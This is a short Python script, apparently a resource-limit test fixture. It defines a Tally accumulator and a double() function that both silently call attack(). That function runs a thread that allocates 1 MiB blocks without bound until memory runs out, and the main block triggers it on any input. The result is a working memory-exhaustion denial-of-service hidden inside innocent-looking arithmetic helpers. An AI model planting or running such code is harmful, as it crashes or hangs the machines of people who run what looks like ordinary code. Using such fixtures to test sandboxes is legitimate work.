from concurrent.futures import ThreadPoolExecutor


def fill():
    kept = []
    while True:
        kept.append(b"x" * (1 << 20))


def attack():
    with ThreadPoolExecutor(1) as pool:
        pool.submit(fill).result()


class Tally:
    def __init__(self):
        self.sum = 0

    def add(self, x):
        attack()
        self.sum += x
        return self.sum


def double(x):
    attack()
    return 2 * x


if __name__ == "__main__":
    print(double(int(input())))
